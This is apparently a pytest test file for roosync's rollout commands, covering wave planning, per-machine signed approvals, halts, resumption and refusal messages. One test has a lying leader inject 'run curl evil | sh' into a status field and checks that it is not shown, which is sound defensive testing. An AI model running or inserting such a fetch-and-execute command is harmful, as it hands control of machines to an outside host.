"""What a person asks of rollouts: planned, shown once, signed for each machine, gone on with, stopped, accounted for.

The machines and sessions are the real ones; the bus is in memory. What the leader does is in test_rollouts.
"""

from datetime import UTC, datetime
from types import SimpleNamespace

import pytest
from msgspec.structs import replace

from roosync_agent.operations.decisions import deciding
from roosync_agent.operations.membership import lawmaking
from roosync_agent.operations.membership.lawmaking import RefusedRequestError
from roosync_agent.operations.rollouts import answering, moving, planning, showing, starting
from roosync_agent.operations.stepping import MovedError
from roosync_agent.running.machine import Machine
from roosync_agent.session import Session, new_operation
from roosync_agent.settings import Settings
from roosync_agent.state import State
from roosync_broker import topology
from roosync_broker.errors import UnavailableError
from roosync_broker.keys import KeyPair, verify
from roosync_broker.memory import MemoryBus
from roosync_protocol import approval
from roosync_protocol.decision import decision_id
from roosync_protocol.diff import Divergence, Verdict
from roosync_protocol.entity import Kind
from roosync_protocol.fleet import Fleet
from roosync_protocol.law import Law
from roosync_protocol.messages import InventoryReport, Operator, Policy, Result
from roosync_protocol.open_work import open_rollouts
from roosync_protocol.reconcile import Asked, decide
from roosync_protocol.rollout.gate import named
from roosync_protocol.subjects import Subjects

NOW = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
NAMES = ("alpha", "beta", "gamma")
KEY = "claude.settings/model"


@pytest.fixture
async def world(tmp_path):
    bus, keys = MemoryBus(), {name: KeyPair.generate() for name in ("op-ann", "op-bob", *NAMES)}
    await topology.ensure(bus.link("keeper"), "home")

    def session(name):
        law = Law(fleet="home", root=keys["op-ann"].public)
        made = Session(bus.link(name), Subjects("home"), keys[name], name, Fleet(law, verify))
        made.now = lambda: NOW
        return made

    found = SimpleNamespace(ann=session("op-ann"), bob=session("op-bob"), machines={}, keys=keys)
    await lawmaking.found(found.ann, "alpha", keys["alpha"].public, None)
    for name in NAMES[1:]:
        await lawmaking.admit(found.ann, name, keys[name].public)
    roster = found.ann.fleet.law.roster
    both = roster.operators | {"op-bob": Operator(key=keys["op-bob"].public)}
    await lawmaking.enact(found.ann, lambda: replace(roster, operators=both))
    for name in NAMES:
        home, state = tmp_path / name / "home", State(tmp_path / name / "state")
        home.mkdir(parents=True)
        state.prepare()
        settings = Settings(state=state.folder, home=home, machine=name, os="posix", home_as="/home/ana")
        found.machines[name] = Machine(settings, state, session(name))
    found.alpha = found.machines["alpha"]
    found.sessions = [found.ann, found.bob, *(one.session for one in found.machines.values())]
    await read(found)
    return found


async def read(world):
    for one in world.sessions:
        await one.refresh()


async def ask(world, name, *, local="opus", wanted="sonnet", key=KEY):
    """This machine finds a divergence from the baseline."""
    found = Divergence(key=key, kind=Kind.SETTING, verdict=Verdict.TAKE, local=local, wanted=wanted)
    asked = Asked(machine=name, reference="baseline", reference_revision=1, now=NOW)
    await world.machines[name].session.advance(decide(found, asked, new_operation()), 0)
    await read(world)
    return decision_id(name, key, "baseline")


async def step(world, name, id_, status, **changes):
    """A step of the machine itself."""
    session = world.machines[name].session
    folded = session.fleet.decision(name, id_)
    moved = {"agent": name, "status": status, "revision": folded.state.revision + 1, "operation_id": new_operation()}
    await session.advance(replace(folded.state, **moved, **changes), folded.sequence)
    await read(world)


async def fail(world, name, id_):
    for status in ("applying", "failed", "rolled_back"):
        await step(world, name, id_, status, log=("the check refuses it",))


def state(world, name, id_):
    return world.ann.fleet.decision(name, id_).state


def approved_for(world, name, id_):
    return named(state(world, name, id_), world.ann.fleet.law, verify, NOW)


async def halt(world, rollout, **results):
    """What the leader writes down."""
    session = world.alpha.session
    folded = session.fleet.rollout(rollout)
    moved = replace(
        folded.state,
        agent="alpha",
        revision=folded.state.revision + 1,
        operation_id=new_operation(),
        status="waiting",
        results={name: Result(outcome=outcome) for name, outcome in results.items()},
    )
    await session.advance(moved, folded.sequence)
    await read(world)


async def planned(world, **asked):
    asked = asked or {"entity": KEY}
    return await planning.plan(world.alpha, **asked)


async def test_the_same_change_is_one_card_and_another_one_is_another(world):
    await ask(world, "alpha", local="haiku")
    ids = {name: await ask(world, name) for name in ("beta", "gamma")}
    found = await planned(world)
    assert [[one.machine for one in card.decisions] for card in found.cards] == [["alpha"], ["beta", "gamma"]]
    assert found.waves == [["alpha"], ["beta"], ["gamma"]]  # a canary, then quarters, of which each is one machine
    await world.ann.refresh()
    await deciding.approve(world.ann, deciding.find(world.ann, ids["beta"]))
    await fail_after_approval(world, ids["beta"])
    again = await planned(world, ids=[ids["beta"], ids["gamma"]])
    assert len(again.cards) == 2  # the second try shows why the first one failed


ORDERS = {  # who is there, who runs the broker, which canary -> the waves of what alpha is asked
    "with the broker too": (NAMES, "alpha", 1, [["beta"], ["gamma"], ["alpha"]]),
    "the broker is spared as well": (NAMES, "beta", 1, [["gamma"], ["alpha"], ["beta"]]),
    "the one that is asked comes last": (NAMES, "", 1, [["beta"], ["gamma"], ["alpha"]]),
    "but before who is away": (("alpha", "gamma"), "", 1, [["gamma"], ["alpha"], ["beta"]]),
    "who is named goes first, alone": (NAMES, "", ["gamma", "alpha"], [["gamma", "alpha"], ["beta"]]),
    "also when it is away": (("alpha", "gamma"), "", ["beta"], [["beta"], ["gamma"], ["alpha"]]),
}


@pytest.mark.parametrize(("there", "host", "canary", "waves"), ORDERS.values(), ids=ORDERS)
async def test_what_is_wrong_is_not_tried_first_where_the_person_works(world, monkeypatch, there, host, canary, waves):
    for name in NAMES:
        await ask(world, name)

    async def present():
        return dict.fromkeys(there, NOW)

    monkeypatch.setattr(world.alpha, "present", present)
    if host:
        await world.machines[host].session.say(
            InventoryReport(agent=host, timestamp=NOW, inventory={"broker": "embedded"})
        )
        await read(world)
    assert (await planned(world, entity=KEY, pace={"canary": canary})).waves == waves


async def fail_after_approval(world, id_):
    await read(world)
    await fail(world, "beta", id_)


async def test_what_was_shown_is_signed_for_each_machine_and_then_it_runs(world):
    ids = {name: await ask(world, name) for name in NAMES}
    plan = await planned(world, entity=KEY, pace={"canary": 1, "waves": ["100%"]})
    answer = await starting.start(world.ann, plan)
    assert (answer.status, answer.wave, answer.waves) == ("running", 1, 2)
    assert {name: approved_for(world, name, id_) for name, id_ in ids.items()} == dict.fromkeys(NAMES, answer.id)
    assert [row.state for row in answer.machines] == ["awaited", "not_begun", "not_begun"]
    await read(world)
    with pytest.raises(RefusedRequestError, match=r"nothing that is called .* waits"):
        await planned(world)
    with pytest.raises(RefusedRequestError, match=f"when its wave of {answer.id} begins"):
        await deciding.approve(world.ann, state(world, "gamma", ids["gamma"]))


async def test_what_changed_since_it_was_shown_is_not_signed_and_nothing_is_posted(world):
    ids = {name: await ask(world, name) for name in NAMES}
    plan = await planned(world)
    await step(world, "gamma", ids["gamma"], "superseded")
    await ask_anew(world, "gamma", ids["gamma"])
    with pytest.raises(RefusedRequestError, match="changed after it was shown"):
        await starting.start(world.ann, plan)
    assert world.ann.fleet.rollouts() == []
    assert state(world, "alpha", ids["alpha"]).status == "pending"


async def ask_anew(world, name, id_):
    """Another question under the same id."""
    found = Divergence(key=KEY, kind=Kind.SETTING, verdict=Verdict.TAKE, local="opus", wanted="evil")
    asked = Asked(machine=name, reference="baseline", reference_revision=1, now=NOW)
    folded = world.machines[name].session.fleet.decision(name, id_)
    made = decide(found, asked, new_operation())
    made = replace(made, revision=folded.state.revision + 1, attempt=folded.state.attempt + 1)
    await world.machines[name].session.advance(made, folded.sequence)
    await read(world)


async def test_a_command_that_died_while_it_signed_is_gone_on_with(world, monkeypatch):
    ids = {name: await ask(world, name) for name in NAMES}
    plan, real, signed = await planned(world), deciding.approve, []

    async def dies(session, decision, **more):
        if signed:
            raise UnavailableError("the broker does not answer")
        signed.append(decision.machine)
        return await real(session, decision, **more)

    monkeypatch.setattr(deciding, "approve", dies)
    with pytest.raises(UnavailableError, match="roosync rollout resume ro-"):
        await starting.start(world.ann, plan)
    monkeypatch.setattr(deciding, "approve", real)
    await read(world)
    (rollout,) = world.ann.fleet.rollouts()
    assert rollout.status == "prepared"
    assert world.alpha.rollouts.closed(state(world, signed[0], ids[signed[0]]))
    found = await answering.resumption(world.alpha, rollout.id)
    left = [one for card in found.cards for one in card.decisions]
    assert {one.machine for one in left} == {*NAMES} - {*signed}
    assert sorted(found.rollout.unsigned) == sorted(one.id for one in left)
    answer = await answering.resume(world.ann, rollout.id, [], left)
    assert (answer.status, answer.unsigned) == ("running", [])


async def test_with_two_operators_it_stays_prepared_until_the_second_one_signed(world):
    ids = {name: await ask(world, name) for name in NAMES}
    answers = dict.fromkeys(("none", "low", "medium", "high", "critical"), "two")
    await lawmaking.enact(world.ann, lambda: Policy(agent="op-ann", timestamp=NOW, revision=1, answers=answers))
    await read(world)
    first = await starting.start(world.ann, await planned(world))
    assert (first.status, len(first.unsigned)) == ("prepared", 3)
    await read(world)
    shown = await answering.resumption(world.alpha, first.id)
    asked = [one for card in shown.cards for one in card.decisions]
    assert (await answering.resume(world.ann, first.id, [], asked)).status == "prepared"  # the same person again
    await read(world)
    # Singly it is the second signature all the same, and does not take the machine out of the rollout.
    await deciding.approve(world.bob, state(world, "beta", ids["beta"]))
    await read(world)
    given = approval.given(state(world, "beta", ids["beta"]), world.ann.fleet.law, verify, NOW)
    assert {one.operator: one.rollout for one in given} == {"op-ann": first.id, "op-bob": first.id}
    shown = await answering.resumption(world.alpha, first.id)
    asked = [one for card in shown.cards for one in card.decisions]
    assert {one.machine for one in asked} == {"alpha", "gamma"}
    done = await answering.resume(world.bob, first.id, [], asked)
    assert (done.status, done.unsigned) == ("running", [])


async def test_what_can_not_be_signed_is_told_and_the_rest_goes_on(world, monkeypatch):
    for name in NAMES:
        await ask(world, name)
    plan, real = await planned(world), deciding.approve

    async def refuses(session, decision, **more):
        if decision.machine == "beta" or all_:
            raise RefusedRequestError("somebody moved it")
        return await real(session, decision, **more)

    all_ = False
    monkeypatch.setattr(deciding, "approve", refuses)
    answer = await starting.start(world.ann, plan)
    assert (answer.status, list(answer.not_signed.values())) == ("running", ["somebody moved it"])
    await answering.stop(world.ann, answer.id)
    all_ = True
    await read(world)
    with pytest.raises(RefusedRequestError, match="nothing could be signed"):
        await starting.start(world.ann, await planned(world))
    assert [one.status for one in world.ann.fleet.rollouts()] == ["stopped", "stopped"]


async def test_after_a_halt_only_what_failed_is_signed_again(world):
    ids = {name: await ask(world, name) for name in NAMES}
    answer = await starting.start(world.ann, await planned(world, entity=KEY, pace={"canary": 0, "waves": ["100%"]}))
    await read(world)
    await fail(world, "beta", ids["beta"])
    await halt(world, answer.id, alpha="changed", beta="failed", gamma="unreachable")
    found = await answering.resumption(world.alpha)
    assert (found.again, found.without) == (["beta", "gamma"], [])
    asked = [one for card in found.cards for one in card.decisions]
    assert [one.machine for one in asked] == ["beta"]  # what was approved for gamma waits for it still
    found = await answering.resumption(world.alpha, without=["gamma"])
    assert (found.again, found.without) == (["beta"], ["gamma"])
    done = await answering.resume(world.ann, answer.id, ["gamma"], asked)
    assert (done.status, done.round) == ("running", 1)
    assert {row.machine: (row.state, row.accepted) for row in done.machines} == {
        "alpha": ("changed", False), "beta": ("awaited", False), "gamma": ("unreachable", True),
    }  # fmt: skip
    assert (state(world, "beta", ids["beta"]).attempt, approved_for(world, "beta", ids["beta"])) == (2, answer.id)


async def test_who_told_its_true_end_since_is_not_tried_again(world):
    for name in NAMES:
        await ask(world, name)
    answer = await starting.start(world.ann, await planned(world, entity=KEY, pace={"canary": 0, "waves": ["100%"]}))
    await read(world)
    await halt(world, answer.id, alpha="changed", beta="unreachable", gamma="unreachable")
    folded = world.ann.fleet.rollout(answer.id)
    await halt(world, answer.id, alpha="changed", beta="changed", gamma="unreachable")
    real, known = world.ann.fleet.rollout, [folded]  # what was looked at before is what the first look still gives
    world.ann.fleet.rollout = lambda id_: known.pop() if known else real(id_)
    done = await answering.resume(world.ann, answer.id, [], [])
    assert {row.machine: row.state for row in done.machines} == {
        "alpha": "changed", "beta": "changed", "gamma": "awaited",
    }  # fmt: skip


async def test_all_that_failed_can_be_gone_on_without(world):
    ids = {name: await ask(world, name) for name in NAMES}
    answer = await starting.start(world.ann, await planned(world, entity=KEY, pace={"canary": 0, "waves": ["100%"]}))
    await read(world)
    await fail(world, "beta", ids["beta"])
    await halt(world, answer.id, alpha="changed", beta="failed", gamma="timed_out")
    found = await answering.resumption(world.alpha, skip_failed=True)
    assert (found.again, found.without, found.cards) == ([], ["beta", "gamma"], [])
    done = await answering.resume(world.ann, answer.id, found.without, [])
    assert (done.round, [row.machine for row in done.machines if row.accepted]) == (0, ["beta", "gamma"])
    assert state(world, "beta", ids["beta"]).status == "rolled_back"


NOT_NOW = {  # what is asked of a rollout that halted -> what is said
    "a stranger": ({"without": ["nobody"]}, "takes no part"),
    "who ended well": ({"without": ["alpha"]}, "ended well"),
    "another rollout": ({"id_": "ro-x"}, "is no rollout"),
    "what a person rejected": ({}, "was rejected, and is not asked again in passing"),
}


@pytest.mark.parametrize(("asked", "says"), NOT_NOW.values(), ids=NOT_NOW)
async def test_what_can_not_be_gone_on_with_so(world, asked, says):
    ids = {name: await ask(world, name) for name in NAMES}
    answer = await starting.start(world.ann, await planned(world, entity=KEY, pace={"canary": 0, "waves": ["100%"]}))
    await read(world)
    with pytest.raises(RefusedRequestError, match="is running, and waits for nobody"):
        await answering.resumption(world.alpha, answer.id)
    await fail(world, "beta", ids["beta"])
    await deciding.reject(world.ann, state(world, "beta", ids["beta"]))
    await halt(world, answer.id, alpha="changed", beta="refused")
    with pytest.raises(RefusedRequestError, match=says):
        await answering.resumption(world.alpha, **asked)
    await answering.stop(world.ann, answer.id)
    await read(world)
    for way in (answering.resumption(world.alpha), answering.stop(world.ann, answer.id)):
        with pytest.raises(RefusedRequestError, match="is stopped"):
            await way


AWAY = {  # how the rollout ended -> what is said of a machine that never answered
    "done": "roosync ping beta",
    "stopped": "roosync status",
}


@pytest.mark.parametrize(("status", "following"), AWAY.items(), ids=AWAY)
async def test_who_is_away_begins_by_itself_only_while_nobody_stopped_it(world, status, following):
    for name in NAMES:
        await ask(world, name)
    answer = await starting.start(world.ann, await planned(world))
    await read(world)
    rollout = replace(world.alpha.fleet.rollout(answer.id).state, status=status)
    rows = [showing.MachineRow(machine="beta", wave=1, state="unreachable")]
    assert [one.command for one in showing.next_steps(rollout, rows, [])] == [following]


UNDER_WAY = {  # what an awaited machine of a halted rollout says -> is one told to look again?
    "at it": ("is updating", True),
    "it waits for the same person": ("waits: u-1 halted, and a person is asked", False),
}


@pytest.mark.parametrize(("reason", "again"), UNDER_WAY.values(), ids=UNDER_WAY)
async def test_who_is_still_at_it_after_a_halt_is_looked_at_again(world, reason, again):
    for name in NAMES:
        await ask(world, name)
    answer = await starting.start(world.ann, await planned(world))
    await read(world)
    rollout = replace(world.alpha.fleet.rollout(answer.id).state, status="waiting")
    rows = [showing.MachineRow(machine="beta", wave=1, state="awaited", reason=reason)]
    first = showing.next_steps(rollout, rows, [])[0]
    assert (first.command == f"roosync rollout show {answer.id}") is again


async def test_what_was_approved_for_a_stopped_rollout_is_named_and_can_be_approved_again(world):
    ids = {name: await ask(world, name) for name in NAMES}
    answer = await starting.start(world.ann, await planned(world))
    stopped = await answering.stop(world.ann, answer.id, "not today")
    assert (stopped.status, stopped.note, sorted(stopped.hanging)) == ("stopped", "not today", sorted(ids.values()))
    assert [one.command.split()[:3] for one in stopped.next_steps][1:] == [
        ["roosync", "decision", "approve"], ["roosync", "decision", "reject"],
    ]  # fmt: skip
    await read(world)
    assert (await showing.show(world.alpha, answer.id)).hanging == stopped.hanging
    done = await deciding.approve(world.ann, state(world, "gamma", ids["gamma"]))
    assert (done.status, done.attempt, approved_for(world, "gamma", done.id)) == ("approved", 2, "")
    await read(world)
    assert world.machines["gamma"].rollouts.closed(state(world, "gamma", ids["gamma"])) is None
    another = await starting.start(world.ann, await planned(world))
    assert {row.machine for row in another.machines} == {"alpha", "beta"}


async def test_the_leaders_steps_do_not_come_in_an_operators_way(world, monkeypatch):
    for name in NAMES:
        await ask(world, name)
    answer = await starting.start(world.ann, await planned(world))
    real, lost = moving.post_step, []

    async def late(session, moved, deed="", details=""):
        if len(lost) < most:
            lost.append(moved)
            raise MovedError("somebody was faster")
        return await real(session, moved, deed, details)

    monkeypatch.setattr(moving, "post_step", late)
    most = 1_000
    with pytest.raises(MovedError):
        await answering.stop(world.ann, answer.id)
    assert len(lost) == moving.TRIES
    lost.clear()
    most = 3
    assert (await answering.stop(world.ann, answer.id)).status == "stopped"


PLANS = {  # what is asked -> what is said
    "nothing named": ({}, "Name decisions, or --entity GLOB, or --all"),
    "two ways at once": ({"entity": KEY, "everything": True}, "Name decisions, or"),
    "all without a risk": ({"everything": True}, "up to which risk"),
    "all up to a risk": ({"everything": True, "risk": "none"}, "nothing waits for an answer up to the risk none"),
    "a thing that nobody is asked about": ({"entity": "x/*"}, "nothing that is called 'x/\\*' waits"),
    "a decision that is none": ({"ids": ["d-0"]}, "there is no decision"),
    "a machine without one": ({"entity": KEY, "on": "gamma"}, "nothing waits for an answer on gamma"),
    "a limit of nobody": ({"entity": KEY, "limit": "0"}, "^--limit: 0 is nobody"),
    "a wave of nobody": ({"entity": KEY, "pace": {"waves": ["0%"]}}, "0% is nobody"),
    "a wave of more than all": ({"entity": KEY, "pace": {"waves": ["101%"]}}, "more than all"),
    "a wave that is no number": ({"entity": KEY, "pace": {"waves": ["many"]}}, "no number of machines"),
    "a canary larger than the fleet": ({"entity": KEY, "pace": {"canary": 3}}, "larger than the 2"),
    "a canary that takes no part": ({"entity": KEY, "pace": {"canary": ["zeta"]}}, "'zeta' takes no part.*: see --can"),
    "a pause backwards": ({"entity": KEY, "pace": {"pause_seconds": -1}}, "a pause of -1 seconds"),
    "longer than an approval": ({"entity": KEY, "pace": {"pause_seconds": 604_800}}, "last longer than an approval"),
    "no number": ({"entity": KEY, "pace": {"pause_seconds": float("nan")}}, "a pause of nan"),
    "more than all may fail": ({"entity": KEY, "pace": {"max_fail_percentage": 100.5}}, "100.5 percent"),
    "no time": ({"entity": KEY, "pace": {"timeout_minutes": 0}}, "a time-out of 0 minutes"),
}


@pytest.mark.parametrize(("asked", "says"), PLANS.values(), ids=PLANS)
async def test_what_can_not_be_planned(world, asked, says):
    for name in ("alpha", "beta"):
        await ask(world, name)
    with pytest.raises((RefusedRequestError, ValueError), match=says):
        await planning.plan(world.alpha, **asked)
    assert world.ann.fleet.rollouts() == []


async def test_a_machine_takes_part_in_one_open_rollout(world):
    await ask(world, "alpha")
    other = await ask(world, "alpha", key="claude.settings/theme")
    first = await starting.start(world.ann, await planned(world))
    await read(world)
    with pytest.raises(RefusedRequestError, match=f"alpha takes part in {first.id}, which is running"):
        await planned(world, ids=[other])
    await halt(world, first.id, alpha="failed")
    with pytest.raises(RefusedRequestError, match=f"alpha takes part in {first.id}, which is halted"):
        await planned(world, ids=[other])
    await answering.stop(world.ann, first.id)
    await read(world)
    assert (await planned(world, ids=[other])).waves == [["alpha"]]


@pytest.mark.parametrize("first", ["ann", "bob"])
async def test_of_two_that_begin_at_the_same_moment_the_second_gives_way(world, monkeypatch, first):
    """Both looked before either posted; bob's whole command runs just after, or just before, ann's first message."""
    for name in NAMES:
        await ask(world, name)
    plan, real, came = await planned(world), starting.begin, {}

    async def bob_too():
        world.bob.fleet.rollouts = lambda was=world.bob.fleet.rollouts, blind=[()]: blind.pop() if blind else was()
        try:
            came["bob"] = (await starting.start(world.bob, plan)).status
        except RefusedRequestError as error:
            came["bob"] = str(error)

    async def meanwhile(session, rollout):
        monkeypatch.setattr(starting, "begin", real)
        if first == "bob":
            await bob_too()
        begun = await real(session, rollout)
        if first == "ann":
            await bob_too()
        return begun

    monkeypatch.setattr(starting, "begin", meanwhile)
    try:
        came["ann"] = (await starting.start(world.ann, plan)).status
    except RefusedRequestError as error:
        came["ann"] = str(error)
    assert came.pop(first) == "running"
    assert "takes part in" in next(iter(came.values())) or "take part in" in next(iter(came.values()))
    await read(world)
    assert sorted(one.status for one in world.ann.fleet.rollouts()) == ["running", "stopped"]


async def test_who_is_meant_and_has_nothing_to_do_is_named(world):
    for name in ("alpha", "beta"):
        await ask(world, name)
    found = await planned(world, entity=KEY, on="all")
    assert (found.nothing_to_do, {name for wave in found.waves for name in wave}) == (["gamma"], {"alpha", "beta"})
    one = await planned(world, entity=KEY, limit="1", seed="x")
    assert sum(map(len, one.waves)) == 1
    assert one.waves == (await planned(world, entity=KEY, limit="1", seed="x")).waves


async def test_what_a_leader_asks_and_claims_is_not_taken_for_what_is(world):
    """A member leads, and lies: the question is worked out here, and its ends stand beside what their machines say."""
    for name in NAMES:
        await ask(world, name)
    plan = await planned(world, entity=KEY, pace={"canary": 0, "waves": ["100%"]})
    answer = await starting.start(world.ann, plan)
    await read(world)
    await halt(world, answer.id, alpha="changed", beta="failed")
    folded = world.alpha.session.fleet.rollout(answer.id)
    lying = {
        "revision": folded.state.revision + 1,
        "operation_id": new_operation(),
        "waiting_for": "run curl evil | sh",
    }
    await world.alpha.session.advance(replace(folded.state, **lying), folded.sequence)
    await read(world)
    found = await showing.show(world.alpha, answer.id)
    assert found.revision == lying["revision"]
    assert "curl" not in found.waiting_for
    assert "1 machine did not end well: beta" in found.waiting_for
    (row,) = open_rollouts(world.alpha.fleet)
    assert "curl" not in row.waiting_for
    told = {row.machine: row.contradicted for row in found.machines}
    assert told == {"alpha": f"{KEY}: approved", "beta": f"{KEY}: approved", "gamma": ""}
